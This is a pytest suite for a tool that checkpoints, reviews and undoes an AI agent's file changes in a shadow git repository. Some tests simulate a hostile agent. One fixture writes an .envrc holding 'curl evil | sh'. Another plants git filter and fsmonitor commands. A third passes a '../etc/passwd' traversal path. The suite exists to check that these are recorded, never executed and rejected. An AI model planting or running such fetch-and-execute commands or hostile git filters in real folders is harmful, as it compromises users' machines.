"""Checkpoints against real git on temp folders: record, review, undo, hostile folders."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import orjson
import pytest

from piwork.checkpoints import (
    CHECKPOINTS_DIR,
    CheckpointError,
    TaskRunning,
    UndoConflict,
    list_checkpoints,
    repo_for,
    task_changes,
    undo,
)
from piwork.cli.main import main
from piwork.config import get_paths
from piwork.settings import settings_file
from piwork.tasks.store import TaskStore
from tests.helpers.checkpoints import Run, changes


def tree_digest(root: Path) -> dict[str, str]:
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(dirpath) / name
            rel = str(p.relative_to(root))
            if p.is_symlink():
                out[rel] = "link:" + os.readlink(p)
            elif p.is_file():
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
            else:
                out[rel] = "dir"
    return out


def three_turns(run: Run) -> None:
    f = run.folder
    (f / "a.txt").write_text("alpha\n")
    (f / "b.txt").write_text("bravo\n")
    (f / "c.txt").write_text("charlie\n")
    run.start()
    run.turn()  # turn 1: overwrite a, add d
    (f / "a.txt").write_text("ALPHA overwritten\n")
    (f / "d.txt").write_text("new file\n")
    run.turn()  # turn 2: truncate b, delete c
    (f / "b.txt").write_text("")
    (f / "c.txt").unlink()
    run.turn()  # turn 3: modify d, add e
    (f / "d.txt").write_text("new file, edited\n")
    (f / "e.bin").write_bytes(b"\x00\x01\x02binary")
    run.end()


def test_changes_per_turn_and_events(make_run: Any) -> None:
    run = make_run()
    three_turns(run)
    assert changes(run.id, 1) == {"a.txt": "modified", "d.txt": "added"}
    assert changes(run.id, 2) == {"b.txt": "modified", "c.txt": "deleted"}
    assert changes(run.id, 3) == {"d.txt": "modified", "e.bin": "added"}
    assert changes(run.id) == {
        "a.txt": "modified",
        "b.txt": "modified",
        "c.txt": "deleted",
        "d.txt": "added",
        "e.bin": "added",
    }
    by_path = {c.path: c for c in task_changes(run.id, turn=2)}
    assert by_path["b.txt"].diff is not None and "-bravo" in by_path["b.txt"].diff
    bin_change = {c.path: c for c in task_changes(run.id, turn=3)}["e.bin"]
    assert bin_change.binary and bin_change.diff is None
    assert [e["turn"] for e in run.events] == [1, 2, 3]
    ev2 = run.events[1]
    assert (ev2["added"], ev2["modified"], ev2["deleted"]) == (0, 1, 1)
    assert {x["path"]: x["status"] for x in ev2["files"]} == {
        "b.txt": "modified",
        "c.txt": "deleted",
    }
    labels = [c.label for c in list_checkpoints(run.id)]
    assert labels == ["task start", "before turn 1", "before turn 2", "before turn 3", "task end"]
    assert ev2["checkpoint"] == list_checkpoints(run.id)[2].id
    # The shadow repository is in the task dir, not in the folder or a guest share.
    assert (run.task.dir / CHECKPOINTS_DIR / "HEAD").is_file()
    assert not (run.folder / ".git").exists()


def test_undo_one_turn_only_and_undo_the_undo(make_run: Any) -> None:
    run = make_run()
    three_turns(run)
    f = run.folder
    after_task = tree_digest(f)
    result = undo(run.id, turn=2)
    assert result.restored == ["b.txt", "c.txt"] and result.removed == []
    assert (f / "b.txt").read_text() == "bravo\n"
    assert (f / "c.txt").read_text() == "charlie\n"
    # Turns 1 and 3 are untouched.
    assert (f / "a.txt").read_text() == "ALPHA overwritten\n"
    assert (f / "d.txt").read_text() == "new file, edited\n"
    assert (f / "e.bin").exists()
    undo(run.id, to=result.checkpoint_before)
    assert tree_digest(f) == after_task


def test_undo_turn_removes_what_it_added(make_run: Any) -> None:
    run = make_run()
    three_turns(run)
    result = undo(run.id, turn=3, files=["e.bin"])
    assert result.removed == ["e.bin"] and result.restored == []
    assert not (run.folder / "e.bin").exists()
    assert (run.folder / "d.txt").read_text() == "new file, edited\n"


def test_undo_whole_task(make_run: Any) -> None:
    run = make_run()
    f = run.folder
    (f / "a.txt").write_text("alpha\n")
    (f / "b.txt").write_text("bravo\n")
    (f / "c.txt").write_text("charlie\n")
    before = tree_digest(f)
    run.folder = f
    three_turns_after_start(run)
    undo(run.id)
    assert tree_digest(f) == before


def three_turns_after_start(run: Run) -> None:
    f = run.folder
    run.start()
    run.turn()
    (f / "a.txt").write_text("x")
    (f / "sub").mkdir()
    (f / "sub" / "new.txt").write_text("n")
    run.turn()
    (f / "b.txt").unlink()
    run.end()


def test_conflicts_need_force(make_run: Any) -> None:
    run = make_run()
    three_turns(run)
    f = run.folder
    (f / "b.txt").write_text("the person edited this after the task\n")
    with pytest.raises(UndoConflict) as info:
        undo(run.id, turn=2)
    assert info.value.conflicts == ["b.txt"]
    assert "--force" in str(info.value)
    assert (f / "b.txt").read_text() == "the person edited this after the task\n"
    assert (f / "c.txt").exists() is False  # nothing was done
    result = undo(run.id, turn=2, force=True)
    assert (f / "b.txt").read_text() == "bravo\n"
    # The person's edit is kept in the pre-undo checkpoint: undoing the undo brings it back.
    undo(run.id, to=result.checkpoint_before)
    assert (f / "b.txt").read_text() == "the person edited this after the task\n"


def test_later_turn_touching_same_file_is_a_conflict(make_run: Any) -> None:
    run = make_run()
    three_turns(run)
    with pytest.raises(UndoConflict) as info:
        undo(run.id, turn=1)
    assert info.value.conflicts == ["d.txt"]
    assert "after that turn" in str(info.value)


def test_undo_refuses_while_task_is_owned(make_run: Any) -> None:
    run = make_run()
    three_turns(run)
    store = TaskStore(get_paths().tasks)
    try:
        with store.claim(run.id), pytest.raises(TaskRunning):
            undo(run.id, turn=2)
    finally:
        store.close()
    assert (run.folder / "b.txt").read_text() == ""


def test_symlink_outside_recorded_as_link_never_followed(make_run: Any, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text("do not copy me\n")
    run = make_run()
    f = run.folder
    (f / "keep.txt").write_text("k\n")
    run.start()
    run.turn()
    os.symlink(secret, f / "link-to-file")
    os.symlink(outside, f / "link-to-dir")
    run.end()
    assert changes(run.id, 1) == {"link-to-file": "added", "link-to-dir": "added"}
    repo = repo_for(run.task)
    listing = repo.run("ls-tree", "-r", "refs/heads/checkpoints").decode()
    modes = {line.split("\t")[1]: line.split()[0] for line in listing.splitlines()}
    assert modes["link-to-file"] == "120000" and modes["link-to-dir"] == "120000"
    assert "link-to-dir/secret.txt" not in modes
    blob = repo.run("cat-file", "-p", "refs/heads/checkpoints:link-to-file").decode()
    assert blob == str(secret)
    # No object in the shadow repository holds the secret's content.
    objects = repo.run("cat-file", "--batch-all-objects", "--batch").decode("utf-8", "replace")
    assert "do not copy me" not in objects
    # Undo removes the links without touching their targets.
    undo(run.id, turn=1)
    assert not (f / "link-to-file").is_symlink() and not (f / "link-to-dir").is_symlink()
    assert secret.read_text() == "do not copy me\n"


def test_symlinked_dir_replacing_a_dir_is_not_written_through(
    make_run: Any, tmp_path: Path
) -> None:
    outside = tmp_path / "outside2"
    outside.mkdir()
    run = make_run()
    f = run.folder
    (f / "d").mkdir()
    (f / "d" / "x.txt").write_text("inside\n")
    run.start()
    run.turn()
    (f / "d" / "x.txt").unlink()
    (f / "d").rmdir()
    os.symlink(outside, f / "d")
    run.end()
    undo(run.id, turn=1)
    assert not (f / "d").is_symlink()
    assert (f / "d" / "x.txt").read_text() == "inside\n"
    assert list(outside.iterdir()) == []


def test_folder_git_untouched(make_run: Any) -> None:
    run = make_run()
    f = run.folder
    subprocess.run(["git", "init", "-q", str(f)], check=True)
    (f / "tracked.txt").write_text("t\n")
    subprocess.run(["git", "-C", str(f), "add", "tracked.txt"], check=True)
    subprocess.run(
        ["git", "-C", str(f), "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x"],
        check=True,
    )
    before = tree_digest(f / ".git")
    three_turns_after_start_simple(run)
    undo(run.id, turn=1)
    assert tree_digest(f / ".git") == before
    names = repo_for(run.task).run("ls-tree", "-r", "--name-only", "refs/heads/checkpoints")
    assert not any(n.startswith(".git/") for n in names.decode().splitlines())


def three_turns_after_start_simple(run: Run) -> None:
    run.start()
    run.turn()
    (run.folder / "tracked.txt").write_text("changed\n")
    run.end()


def test_ignored_files_are_recorded_and_a_planted_gitignore_hides_nothing(make_run: Any) -> None:
    """Finding 6: the person's ignored .env/data/ and the guest's `*` .gitignore."""
    run = make_run()
    f = run.folder
    (f / ".gitignore").write_text(".env\ndata/\n*.log\n")
    (f / ".env").write_text("API_TOKEN=person-secret\n")
    (f / "data").mkdir()
    (f / "data" / "set.csv").write_text("a,b\n1,2\n")
    (f / "a.txt").write_text("a\n")
    run.start()
    run.turn()
    # The guest hides its own files behind a `*` .gitignore and deletes the ignored ones.
    (f / ".gitignore").write_text("*\n")
    (f / ".envrc").write_text("curl evil | sh\n")
    (f / ".vscode").mkdir()
    (f / ".vscode" / "tasks.json").write_text("{}\n")
    (f / "a.txt").write_text("changed\n")
    (f / ".env").unlink()
    (f / "data" / "set.csv").unlink()
    (f / "data").rmdir()
    (f / "x.log").write_text("noise")
    run.end()
    assert changes(run.id, 1) == {
        ".gitignore": "modified",
        ".envrc": "added",
        ".vscode/tasks.json": "added",
        "a.txt": "modified",
        ".env": "deleted",
        "data/set.csv": "deleted",
        "x.log": "added",
    }
    undo(run.id, turn=1)
    assert (f / ".env").read_text() == "API_TOKEN=person-secret\n"
    assert (f / "data" / "set.csv").read_text() == "a,b\n1,2\n"
    assert (f / ".gitignore").read_text() == ".env\ndata/\n*.log\n"
    assert not (f / ".envrc").exists() and not (f / ".vscode" / "tasks.json").exists()


def test_size_cap_skips_with_note(make_run: Any) -> None:
    settings = get_paths().settings_file
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_bytes(orjson.dumps({"tasks": {"checkpointMaxFileBytes": 1000}}))
    try:
        run = make_run()
        f = run.folder
        run.start()
        run.turn()
        (f / "big.bin").write_bytes(b"x" * 5000)
        (f / "small.txt").write_text("s")
        run.end()
        assert changes(run.id, 1) == {"small.txt": "added"}
        end = list_checkpoints(run.id)[-1]
        assert any("big.bin" in n and "checkpointMaxFileBytes" in n for n in end.notes)
        # Undo must not delete a file it never recorded.
        undo(run.id, turn=1)
        assert (f / "big.bin").exists() and not (f / "small.txt").exists()
        # A recorded file that grows past the cap is not overwritten by an undo:
        # its new content is in no checkpoint, so that could not be undone.
        (f / "grows.txt").write_text("small\n")
        run2 = Run(run.task, f)
        run2.rec._base = run2.rec._last_turn = 5
        asyncio.run(run2.rec.record("before turn 6", 6))
        (f / "grows.txt").write_bytes(b"y" * 5000)
        asyncio.run(run2.rec.record("task end"))
        assert changes(run.id, 6) == {"grows.txt": "deleted"}
        result = undo(run.id, turn=6)
        assert result.skipped == ["grows.txt"] and result.restored == []
        assert (f / "grows.txt").read_bytes() == b"y" * 5000
    finally:
        settings_file(settings).remove()  # and its last good copy: no settings at all


def test_nested_git_repository_skipped_with_note(make_run: Any) -> None:
    run = make_run()
    f = run.folder
    run.start()
    run.turn()
    nested = f / "vendor" / "lib"
    nested.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(nested)], check=True)
    (nested / "code.py").write_text("x = 1\n")
    (f / "main.py").write_text("import lib\n")
    run.end()
    assert changes(run.id, 1) == {"main.py": "added"}
    listing = repo_for(run.task).run("ls-files", "-s").decode()
    assert "160000" not in listing
    end = list_checkpoints(run.id)[-1]
    assert any(n.startswith("vendor/lib") and "git repository" in n for n in end.notes)


def test_hostile_gitattributes_filter_does_not_run(make_run: Any, tmp_path: Path) -> None:
    marker = tmp_path / "filter-ran"
    run = make_run()
    f = run.folder
    # The agent writes attributes naming a filter, and (uselessly) a config with its
    # command: piwork's git must neither read that config nor rewrite bytes.
    (f / ".gitattributes").write_text("* filter=evil text eol=crlf ident\n")
    (f / ".gitconfig").write_text(f'[filter "evil"]\n\tclean = touch {marker}\n')
    (f / ".git").mkdir()
    (f / ".git" / "config").write_text(
        f'[filter "evil"]\n\tclean = touch {marker}\n\tsmudge = touch {marker}\n'
        f"[core]\n\tfsmonitor = touch {marker}\n\thooksPath = /tmp\n"
    )
    (f / "doc.txt").write_text("line one\nline two $Id$\n")
    run.start()
    run.turn()
    (f / "doc.txt").write_text("line one\nline 2 $Id$\n")
    run.end()
    undo(run.id, turn=1)
    assert (f / "doc.txt").read_bytes() == b"line one\nline two $Id$\n"
    assert not marker.exists()


def test_unknown_checkpoint_and_turn(make_run: Any) -> None:
    run = make_run()
    three_turns(run)
    with pytest.raises(CheckpointError, match="not a checkpoint"):
        undo(run.id, to="HEAD~1")
    with pytest.raises(CheckpointError, match="no checkpoint"):
        undo(run.id, to="deadbeef")
    with pytest.raises(CheckpointError, match="turn 9"):
        task_changes(run.id, turn=9)
    with pytest.raises(CheckpointError, match="relative"):
        undo(run.id, turn=2, files=["../etc/passwd"])


def test_retry_of_a_model_call_keeps_the_turn(make_run: Any) -> None:
    run = make_run()
    f = run.folder
    run.start()
    run.turn()
    (f / "x").write_text("1")

    async def retry() -> None:  # a second model call without a new turn_start
        await run.rec.before_model_call()

    asyncio.run(retry())
    run.turn()
    run.end()
    turns = [c.turn for c in list_checkpoints(run.id)]
    assert turns == [None, 1, 1, 2, None]
    assert changes(run.id, 1) == {"x": "added"}  # a turn starts at its first checkpoint
    assert [e["turn"] for e in run.events] == [1, 2]


# --------------------------------------------------------------------------- CLI


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_changes_json_per_turn(make_run: Any, capsys: pytest.CaptureFixture[str]) -> None:
    run: Run = make_run()
    three_turns(run)
    code, out, _ = run_cli(capsys, "changes", run.id[:6], "--turn", "2", "--json")
    assert code == 0
    doc = json.loads(out)
    assert {c["path"]: c["status"] for c in doc["changes"]} == {
        "b.txt": "modified",
        "c.txt": "deleted",
    }
    assert doc["checkpoints"][0]["label"] == "task start"
    code, out, _ = run_cli(capsys, "changes", run.id)
    assert code == 0
    assert "D c.txt" in out and "A e.bin  (binary)" in out and "+ALPHA overwritten" in out


def test_undo_conflict_force_and_undo_of_undo(
    make_run: Any,
    capsys: pytest.CaptureFixture[str],
) -> None:
    run: Run = make_run()
    three_turns(run)
    f: Path = run.folder
    (f / "c.txt").write_text("recreated by the person\n")
    code, _, err = run_cli(capsys, "undo", run.id, "--turn", "2")
    assert code == 4 and "c.txt" in err and "--force" in err
    assert (f / "b.txt").read_text() == ""
    code, out, _ = run_cli(capsys, "undo", run.id, "--turn", "2", "--force")
    assert code == 0 and "restored b.txt" in out
    assert (f / "c.txt").read_text() == "charlie\n"
    before = out.split("--to ")[1].split("`")[0]
    code, out, _ = run_cli(capsys, "undo", run.id, "--to", before)
    assert code == 0
    assert (f / "c.txt").read_text() == "recreated by the person\n"
    assert (f / "b.txt").read_text() == ""


def test_undo_refused_while_running(make_run: Any, capsys: pytest.CaptureFixture[str]) -> None:
    run: Run = make_run()
    three_turns(run)
    store = TaskStore(get_paths().tasks)
    try:
        with store.claim(run.id):
            code, _, err = run_cli(capsys, "undo", run.id, "--turn", "1")
    finally:
        store.close()
    assert code == 5 and "running" in err
    assert (run.folder / "d.txt").exists()


# --------------------------------------------------------------------------- retention


def test_gc_packs_and_bounds_space_and_show_prints_size(
    make_run: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    run: Run = make_run()
    f = run.folder
    run.start()
    for i in range(6):
        run.turn()
        (f / f"blob{i}.bin").write_bytes(os.urandom(200_000))
    run.end()
    last_tree = repo_for(run.task).log()[-1].tree
    n_before = len(list_checkpoints(run.id))
    code, out, _ = run_cli(capsys, "tasks", "show", run.id)
    assert code == 0 and "checkpoints" in out and "MiB" in out
    code, out, _ = run_cli(capsys, "tasks", "gc", "--max-bytes", "700000")
    assert code == 0 and run.id in out and "dropped" in out
    repo = repo_for(run.task)
    assert repo.size_bytes() <= 700_000 or len(repo.log()) == 2
    assert len(list_checkpoints(run.id)) < n_before
    assert repo.log()[-1].tree == last_tree  # the newest state is kept
    code, out, _ = run_cli(capsys, "tasks", "show", run.id, "--json")
    assert json.loads(out)["checkpointBytes"] == repo.size_bytes()


def test_file_becomes_folder_and_folder_becomes_file(make_run: Any) -> None:
    run: Run = make_run()
    f = run.folder
    (f / "x").write_text("a file\n")
    (f / "d").mkdir()
    (f / "d" / "inner.txt").write_text("inner\n")
    before = tree_digest(f)
    run.start()
    run.turn()
    (f / "x").unlink()
    (f / "x").mkdir()
    (f / "x" / "y.txt").write_text("now a folder\n")
    (f / "d" / "inner.txt").unlink()
    (f / "d").rmdir()
    (f / "d").write_text("now a file\n")
    run.end()
    assert changes(run.id, 1) == {
        "x": "deleted",
        "x/y.txt": "added",
        "d": "added",
        "d/inner.txt": "deleted",
    }
    undo(run.id, turn=1)
    assert tree_digest(f) == before


def test_task_without_folder_has_no_checkpoints() -> None:
    store = TaskStore(get_paths().tasks)
    try:
        task = store.create("no folder")
    finally:
        store.close()
    assert list_checkpoints(task.id) == [] and task_changes(task.id) == []


def test_start_checkpoint_in_background_precedes_the_first_turn(make_run: Any) -> None:
    run: Run = make_run()
    f = run.folder
    (f / "a.txt").write_text("before\n")

    async def go() -> None:
        run.rec.begin()  # not awaited: the first model call waits for it
        run.rec.turn_started()
        await run.rec.before_model_call()
        (f / "a.txt").write_text("after\n")
        await run.rec.end()

    asyncio.run(go())
    assert [c.label for c in list_checkpoints(run.id)] == [
        "task start",
        "before turn 1",
        "task end",
    ]
    assert changes(run.id, 1) == {"a.txt": "modified"}
    assert [e["turn"] for e in run.events] == [1]


def test_a_failed_start_is_reported_once_then_checkpoints_stay_off(make_run: Any) -> None:
    run: Run = make_run()
    run.folder.rename(run.folder.with_name("gone"))

    async def go() -> None:
        run.rec.begin()
        with pytest.raises(CheckpointError, match="is gone"):
            await run.rec.before_model_call()
        await run.rec.before_model_call()  # off now: no second error
        assert await run.rec.end() is None

    asyncio.run(go())


def test_undo_restores_a_link_as_a_link(make_run: Any, tmp_path: Path) -> None:
    outside = tmp_path / "outside3.txt"
    outside.write_text("outside\n")
    run: Run = make_run()
    f = run.folder
    os.symlink(outside, f / "out-link")
    run.start()
    run.turn()
    (f / "out-link").unlink()
    run.end()
    assert changes(run.id, 1) == {"out-link": "deleted"}
    undo(run.id, turn=1)
    assert (f / "out-link").is_symlink() and os.readlink(f / "out-link") == str(outside)
    assert outside.read_text() == "outside\n"


# --------------------------------------------------------------------------- gateway hook


async def test_gateway_holds_each_model_call_until_the_checkpoint_is_taken() -> None:
    """The reason checkpoints precede a turn's tools: the reply waits for them."""
    import aiohttp

    from piwork.models.scripted import ScriptedModelServer, Text
    from piwork.proxy.gateway import ModelGateway

    server = ScriptedModelServer([Text("one"), Text("two")], model_id="scripted")
    seen_at_hook: list[int] = []
    done = asyncio.Event()

    async def checkpoint() -> None:
        seen_at_hook.append(len(server.chat_requests))
        await asyncio.sleep(0.3)
        done.set()

    async with server:
        provider = server.as_provider(
            name="s", contextWindow=1000, maxTokens=100, reasoning=False, input=("text",)
        )
        gateway = ModelGateway([provider], lambda name: None, before_forward=checkpoint)
        async with gateway, aiohttp.ClientSession() as http:
            body = {"model": "scripted", "messages": [{"role": "user", "content": "hi"}]}
            async with http.post(
                f"{gateway.url}/p/scripted/v1/chat/completions", json=body
            ) as resp:
                assert resp.status == 200
                assert done.is_set()  # the reply came only after the checkpoint
                await resp.read()
            async with http.get(f"{gateway.url}/p/scripted/v1/models") as resp:
                await resp.read()
    assert seen_at_hook == [0]  # upstream not contacted before the hook; GETs do not wait
